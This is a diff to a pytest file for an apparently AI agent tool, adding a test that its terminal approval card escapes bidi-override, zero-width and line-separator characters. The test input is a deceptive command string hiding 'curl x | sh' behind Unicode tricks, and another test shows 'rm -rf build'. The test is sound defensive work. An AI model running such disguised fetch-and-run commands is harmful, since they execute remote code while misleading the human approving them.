@@ -12,7 +12,7 @@ import pytest
 
 from nbagent import events as ev
 from nbagent.engine.agent_state import AgentState, reduce
-from nbagent.render.text import escape_controls
+from nbagent.render.escape import escape_controls
 from nbagent.cli.terminal import Rendered, TerminalApprover, TerminalRenderer, approval_card, render_markdown
 
 
@@ -106,6 +106,14 @@ def test_the_approval_card_shows_the_whole_call_escaped():
     assert lines[2] == "    echo " + "x" * 400 + " && printf '\\x1b[31mred\\x1b[0m'"
     assert lines[3] == "    rm -rf build" and lines[4] == "  timeout: 30"
     assert "    -old\\x1b[8m" in lines and "    +new" in lines and "\x1b" not in card
+
+
+def test_the_approval_card_shows_bidi_zero_width_and_line_separators():
+    """Finding 12 of "Trust": the terminal's rule is render/escape.py's, line separators included."""
+    command = "echo safe \u202e# txt.exe\u200b && curl x\u2028| sh\u2029"
+    card = approval_card(ev.ApprovalRequest(name="bash", call_id="c", arguments={"command": command}))
+    assert not any(c in card for c in "\u202e\u200b\u2028\u2029")
+    assert "echo safe \\u202e# txt.exe\\u200b && curl x\\u2028| sh\\u2029" in card
 
 
 def test_the_approver_reads_y_n_a_and_asks_again_on_anything_else():
